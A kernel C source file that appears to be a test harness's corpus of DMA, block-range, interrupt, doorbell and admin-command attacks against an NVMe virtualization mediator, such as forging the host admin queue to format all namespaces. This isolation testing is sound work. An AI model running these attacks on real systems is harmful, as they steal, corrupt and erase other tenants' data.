// SPDX-License-Identifier: GPL-2.0
/*
 * Cases of the attack corpus, by the names they have in scenarios/expected.tsv; what each does
 * is what the scenario of that name does. The report has the status of the attack's own command,
 * and as words what the attacker then holds: whether that is a secret is for others to say.
 */

#include <linux/io.h>
#include <linux/string.h>

#include "attack_raw.h"

#define PAGE		4096u
#define BLOCK		512u
#define MARK		0x5a5a5a5a5a5a5a5aull
#define HARM		0x0bad0bad0bad0badull
#define FORMAT		(NVME_ADM_FORMAT | 0x7000ull << 16 | 0xffffffffull << 32)	/* of all namespaces, CID 7000h */
#define ADMIN_BLOCKS	4u	/* the host's admin SQ: 32 commands */
#define IRQ_LAST_DWORD	0xFEE00FFCull	/* handle 807Fh, subhandle valid: entry 807Fh + data */

/* Page @i of the attacker's memory, as the device must be told. */
static u64 own(const struct attack *a, u32 i)
{
	return a->fe->info.dma_offset + a->gpa.v + i * PAGE;
}

static u64 own_lba(const struct attack *a)
{
	return a->fe->info.lba_start;
}

static void fill(struct attack *a, u32 page, u64 word)
{
	u32 off;

	for (off = 0; off < PAGE; off += 8)
		port_shm_copy_out(&a->mem, page * PAGE + off, &word, 8);
}

static void store(struct attack *a, u32 off, u64 word)
{
	port_shm_copy_out(&a->mem, off, &word, 8);
}

/* The first word of each @step bytes of a page. */
static void say_words(struct attack *a, u32 page, u32 step, u32 bytes)
{
	u32 off;

	for (off = 0; off < bytes; off += step)
		attack_say(a, "word 0x%016llx\n", port_shm_rd64(&a->mem, page * PAGE + off));
}

static struct nvme_sqe command(u8 opcode, u64 slba, u32 nlb, u64 prp1, u64 prp2)
{
	return (struct nvme_sqe){ .opcode = opcode, .nsid = 1, .prp1 = prp1, .prp2 = prp2, .cdw10 = (u32)slba,
				  .cdw11 = (u32)(slba >> 32), .cdw12 = nlb };
}

static u16 io(struct attack *a, u8 opcode, u64 slba, u32 nlb, u64 prp1)
{
	attack_submit(a, command(opcode, slba, nlb, prp1, 0));
	return attack_wait(a);
}

/* The attack itself, after what is legal: its status is said. */
static void strike(struct attack *a, u8 opcode, u64 slba, u32 nlb, u64 prp1)
{
	attack_say_status(a, io(a, opcode, slba, nlb, prp1));
}

/* What the attacker may do, to make ready. Without it there is no attack. */
static void prepare(struct attack *a, u8 opcode, u64 slba, u32 nlb, u64 prp1)
{
	u16 status = io(a, opcode, slba, nlb, prp1);

	if (status)
		attack_say(a, "unready %x/0x%02x\n", status >> 8, status & 0xff);
}

/* --- blocks --- */

static void read_foreign(struct attack *a, u64 slba, u32 nlb)
{
	fill(a, 0, MARK);
	strike(a, NVME_CMD_READ, slba, nlb, own(a, 0));
	say_words(a, 0, BLOCK, (nlb + 1) * BLOCK);
}

static void lba_01(struct attack *a)
{
	read_foreign(a, attack_facts.victim_lba, 7);
}

static void lba_02(struct attack *a)
{
	fill(a, 0, HARM);
	strike(a, NVME_CMD_WRITE, attack_facts.victim_lba, 0, own(a, 0));
}

/* A relative block with which the sum wraps to the victim's first: as it is, and summed up. */
static u64 wraps(void)
{
	return attack_facts.victim_lba - attack_facts.own_lba;
}

static void lba_03b(struct attack *a)
{
	read_foreign(a, wraps(), 7);
}

static void lba_03c(struct attack *a)
{
	read_foreign(a, attack_facts.own_lba + wraps(), 7);
}

/* From its last block on. Where a mediator counts, the scenario's number is far behind the edge: here it is the edge. */
static void lba_05b(struct attack *a)
{
	read_foreign(a, own_lba(a) + a->fe->info.lba_count - 1, 1);
}

static void lba_07(struct attack *a)
{
	struct nvme_dsm_range range = { .nlb = (u32)a->fe->info.lba_count, .slba = attack_facts.victim_lba };

	port_shm_copy_out(&a->mem, 0, &range, sizeof(range));
	attack_submit(a, (struct nvme_sqe){ .opcode = NVME_CMD_DSM, .nsid = 1, .prp1 = own(a, 0), .cdw11 = (u32)NVME_DSM_AD });
	attack_say_status(a, attack_wait(a));
}

/* --- memory --- */

/* A block of the attacker's with what is to land elsewhere, then read to there. */
static void plant_at(struct attack *a, u64 word, u64 iova)
{
	fill(a, 0, word);
	prepare(a, NVME_CMD_WRITE, own_lba(a), 7, own(a, 0));
	strike(a, NVME_CMD_READ, own_lba(a), 7, iova);
}

static void gpa_01(struct attack *a)
{
	plant_at(a, HARM, attack_facts.victim_page);
}

static void gpa_02(struct attack *a)
{
	fill(a, 0, MARK);
	strike(a, NVME_CMD_WRITE, own_lba(a), 7, attack_facts.victim_page);
	prepare(a, NVME_CMD_READ, own_lba(a), 7, own(a, 0));
	say_words(a, 0, PAGE, PAGE);
}

/* Every place of the host's admin SQ becomes a Format of all namespaces. */
static void forge(struct attack *a)
{
	u32 slot;

	fill(a, 0, 0);
	for (slot = 0; slot < PAGE / sizeof(struct nvme_sqe); slot++)
		store(a, slot * (u32)sizeof(struct nvme_sqe), FORMAT);
	prepare(a, NVME_CMD_WRITE, own_lba(a), ADMIN_BLOCKS - 1, own(a, 0));
}

/* Read back the way it came: by the device's own DMA. */
static void gpa_03a(struct attack *a)
{
	u32 slot, found = 0;

	forge(a);
	strike(a, NVME_CMD_READ, own_lba(a), ADMIN_BLOCKS - 1, attack_facts.admin_sq);
	fill(a, 0, MARK);
	prepare(a, NVME_CMD_WRITE, own_lba(a), ADMIN_BLOCKS - 1, own(a, 0));
	(void)io(a, NVME_CMD_WRITE, own_lba(a), ADMIN_BLOCKS - 1, attack_facts.admin_sq);
	prepare(a, NVME_CMD_READ, own_lba(a), ADMIN_BLOCKS - 1, own(a, 0));
	for (slot = 0; slot < ADMIN_BLOCKS * BLOCK / sizeof(struct nvme_sqe); slot++)
		found += port_shm_rd64(&a->mem, slot * (u32)sizeof(struct nvme_sqe)) == FORMAT;
	attack_say(a, "host-commands %u\n", found);
}

/* One of two tails in a row is not what the controller has; then the attacker looks at what becomes of a block of its own. */
static void ring_admin(struct attack *a)
{
	attack_ring(a, 0, false, 0);
	attack_ring(a, 0, false, 1);
}

static void gpa_03b(struct attack *a)
{
	u32 i;

	forge(a);
	(void)io(a, NVME_CMD_READ, own_lba(a), ADMIN_BLOCKS - 1, attack_facts.admin_sq);
	ring_admin(a);
	for (i = 0; i < 20; i++) {
		port_sleep_ns(a->fe->home, 50000000);
		if (!io(a, NVME_CMD_READ, own_lba(a), 0, own(a, 1)) && !port_shm_rd64(&a->mem, PAGE))
			break;
	}
}

/* As a command: a Read without namespace. As completions: of command 2, phase 1. */
#define RING_WORD	0x0001000200000002ull

static void gpa_04a(struct attack *a)
{
	plant_at(a, RING_WORD, attack_facts.victim_sq);
}

static void gpa_04b(struct attack *a)
{
	plant_at(a, RING_WORD, attack_facts.victim_cq);
}

/*
 * The third entry of a PRP list turns to the victim's memory. Where the controller fetches the list itself,
 * any time before that will do, and before the doorbell is surely before; where a mediator does, after it.
 */
static void gpa_06(struct attack *a)
{
	u32 i;

	for (i = 0; i < 4; i++) {
		fill(a, i, HARM);
		prepare(a, NVME_CMD_WRITE, own_lba(a) + i * 8, 7, own(a, i));
	}
	for (i = 1; i < 4; i++)
		store(a, 4 * PAGE + 8 * (i - 1), own(a, i));
	if (a->direct)
		store(a, 4 * PAGE + 16, attack_facts.victim_page);
	attack_submit(a, command(NVME_CMD_READ, own_lba(a), 31, own(a, 0), own(a, 4)));
	store(a, 4 * PAGE + 16, attack_facts.victim_page);
	attack_say_status(a, attack_wait(a));
}

/* Memory given back, and named all the same: the translation was cached before. */
static void iom_01(struct attack *a)
{
	gpa_t page = { a->gpa.v + 8 * PAGE };

	prepare(a, NVME_CMD_READ, own_lba(a), 7, own(a, 8));
	if (liov_frontend_mem_unregister(a->fe, page, PAGE))
		attack_say(a, "unready\n");
	strike(a, NVME_CMD_READ, own_lba(a), 7, own(a, 8));
	if (liov_frontend_mem_register(a->fe, page, PAGE))
		attack_say(a, "unready\n");
}

/* --- interrupts --- */

/* No entry is up there: 807Fh + 1. */
static void int_01a(struct attack *a)
{
	fill(a, 0, 0);
	store(a, 0, 1);
	prepare(a, NVME_CMD_WRITE, own_lba(a), 7, own(a, 0));
	attack_submit(a, command(NVME_CMD_READ, own_lba(a), 7, IRQ_LAST_DWORD, own(a, 1)));
	attack_say_status(a, attack_wait(a));
}

/*
 * The victim's own entry. Linux's entries are few and low, and a PRP ends at the end of a page, where only
 * high ones are: the controller takes an SGL instead, with 4 bytes for the interrupt.
 */
static void int_01b(struct attack *a)
{
	struct nvme_sgl_desc list[2] = {
		{ .addr = 0xFEE00010ull | (u64)attack_facts.victim_irte << 5, .length = 4, .id = NVME_SGL_DATA },
		{ .addr = own(a, 1), .length = BLOCK - 4, .id = NVME_SGL_DATA },
	};
	/* In the place of PRP1 and PRP2: the segment with these two. */
	struct nvme_sqe sqe = command(NVME_CMD_READ, own_lba(a), 0, own(a, 2), sizeof(list) | (u64)NVME_SGL_LAST_SEGMENT << 56);

	if (!a->direct) {
		int_01a(a);
		return;
	}
	fill(a, 0, 0);
	prepare(a, NVME_CMD_WRITE, own_lba(a), 0, own(a, 0));
	port_shm_copy_out(&a->mem, 2 * PAGE, list, sizeof(list));
	sqe.flags = 1 << 6;	/* PSDT: SGL */
	attack_submit(a, sqe);
	attack_say_status(a, attack_wait(a));
}

/* --- doorbells and pages --- */

static void qd_01(struct attack *a)
{
	attack_ring(a, attack_facts.victim_qid, false, 5);
	attack_ring(a, attack_facts.victim_qid, true, 5);
	port_sleep_ns(a->fe->home, 1000000);
}

static void qd_02(struct attack *a)
{
	attack_ring(a, 0, true, 1);
	ring_admin(a);
	port_sleep_ns(a->fe->home, 20000000);
}

/* The last page of the CMB and the one behind it. */
static void __iomem *edge_map(struct attack *a)
{
	void __iomem *edge = ioremap(a->fe->cmb_gpa.v + a->fe->cmb_size - PAGE, 2 * PAGE);

	if (!edge)
		attack_say(a, "unready\n");
	return edge;
}

static void cmb_01a(struct attack *a)
{
	void __iomem *edge = edge_map(a);

	if (!edge)
		return;
	writel(0xDEADBEEF, edge + PAGE - 1);
	iounmap(edge);
}

static void cmb_01b(struct attack *a)
{
	void __iomem *edge = edge_map(a);

	if (!edge)
		return;
	attack_say(a, "word 0x%016llx\n", (u64)readq(edge + PAGE - 4));
	attack_say(a, "word 0x%016llx\n", (u64)readl(edge + PAGE));
	iounmap(edge);
}

/* Slots where a third queue and a sixth would be. */
static void cmb_02(struct attack *a)
{
	static const u32 slots[] = { 3, 6 };
	u32 i;

	for (i = 0; i < ARRAY_SIZE(slots); i++) {
		u32 off = LIOV_CMB_SLOTS + (slots[i] - 1) * LIOV_CMB_SLOT_STRIDE;

		attack_say(a, "word 0x%016llx\n", port_shm_rd64(&a->fe->cmb, off));
		port_mmio_wr32(&a->fe->cmb_regs, off, 2);
		attack_say(a, "word 0x%016llx\n", port_shm_rd64(&a->fe->cmb, off));
	}
}

/* A second queue pair, used and deleted; its page is touched again. In two steps: what the first one does is legal. */
static void ept_01_prepare(struct attack *a)
{
	const struct liov_info_queue *iq = &a->fe->info.queue[1];
	struct nvme_sqe sqe[4] = {
		{ .opcode = NVME_ADM_CREATE_CQ, .prp1 = a->fe->cmb_gpa.v + iq->cq, .cdw10 = 15 << 16 | 2,
		  .cdw11 = (u32)NVME_QUEUE_PC },
		{ .opcode = NVME_ADM_CREATE_SQ, .prp1 = a->fe->cmb_gpa.v + iq->sq, .cdw10 = 15 << 16 | 2,
		  .cdw11 = (u32)(NVME_QUEUE_PC | FIELD_PREP(NVME_SQ_CQID, 2)) },
		{ .opcode = NVME_ADM_DELETE_SQ, .cdw10 = 2 },
		{ .opcode = NVME_ADM_DELETE_CQ, .cdw10 = 2 },
	};
	u64 word = MARK;
	u32 i;

	for (i = a->fe->nr_queues > 1 ? 2 : 0; i < 4; i++) {
		if (i == 2)
			port_shm_copy_out(&a->fe->cmb, iq->sq, &word, 8);
		if (i == 2 && port_shm_rd64(&a->fe->cmb, iq->sq) != MARK)
			attack_say(a, "unready\n");
		if (liov_frontend_admin(a->fe, &sqe[i], NULL))
			attack_say(a, "unready\n");
	}
}

static void ept_01(struct attack *a)
{
	u32 sq = a->fe->info.queue[1].sq;
	u64 word = NVME_CMD_READ;

	port_shm_copy_out(&a->fe->cmb, sq, &word, 8);
	attack_say(a, "word 0x%016llx\n", port_shm_rd64(&a->fe->cmb, sq));
}

/* --- admin commands --- */

static void admin(struct attack *a, struct nvme_sqe sqe)
{
	int status = liov_frontend_admin(a->fe, &sqe, NULL);

	attack_say_status(a, status < 0 ? ATTACK_SILENT : (u16)status);
}

static void adm_01(struct attack *a)
{
	static const u32 nsids[] = { 1, 0xffffffff };
	u32 i;

	for (i = 0; i < ARRAY_SIZE(nsids); i++)
		admin(a, (struct nvme_sqe){ .opcode = NVME_ADM_FORMAT, .nsid = nsids[i], .cdw10 = 1 << 9 });
}

/* Twenty characters of a serial number as one word. */
static u64 serial(struct attack *a)
{
	u64 part[3] = { 0 };

	port_shm_copy_in(&a->mem, NVME_ID_CTRL_SN, part, 20);
	return part[0] * 5 + part[1] * 3 + part[2];
}

static void adm_03a(struct attack *a)
{
	fill(a, 0, MARK);
	admin(a, (struct nvme_sqe){ .opcode = NVME_ADM_IDENTIFY, .prp1 = a->gpa.v, .cdw10 = NVME_CNS_CTRL });
	attack_say(a, "word 0x%016llx\n", serial(a));
	admin(a, (struct nvme_sqe){ .opcode = NVME_ADM_IDENTIFY, .nsid = 1, .prp1 = a->gpa.v, .cdw10 = NVME_CNS_NS });
	attack_say(a, "word 0x%016llx\n", port_shm_rd64(&a->mem, 0));
}

static void adm_03b(struct attack *a)
{
	static const u32 cns[] = { 0x12, 0x13, 0xff };
	u32 i;

	for (i = 0; i < ARRAY_SIZE(cns); i++)
		admin(a, (struct nvme_sqe){ .opcode = NVME_ADM_IDENTIFY, .prp1 = a->gpa.v, .cdw10 = cns[i] | 0xffffu << 16 });
}

const struct attack_case attack_cases[] = {
	{ "LBA-01", lba_01 }, { "LBA-02", lba_02 }, { "LBA-03b", lba_03b }, { "LBA-03c", lba_03c },
	{ "LBA-05b", lba_05b }, { "LBA-07", lba_07 },
	{ "GPA-01", gpa_01 }, { "GPA-02", gpa_02 }, { "GPA-03a", gpa_03a }, { "GPA-03b", gpa_03b },
	{ "GPA-04a", gpa_04a }, { "GPA-04b", gpa_04b }, { "GPA-06", gpa_06 }, { "IOM-01", iom_01 },
	{ "INT-01a", int_01a }, { "INT-01b", int_01b },
	{ "QD-01", qd_01 }, { "QD-02", qd_02 },
	{ "CMB-01a", cmb_01a }, { "CMB-01b", cmb_01b }, { "CMB-02", cmb_02 },
	{ "EPT-01-prepare", ept_01_prepare }, { "EPT-01", ept_01 },
	{ "ADM-01", adm_01 }, { "ADM-03a", adm_03a }, { "ADM-03b", adm_03b },
	{ NULL, NULL },
};
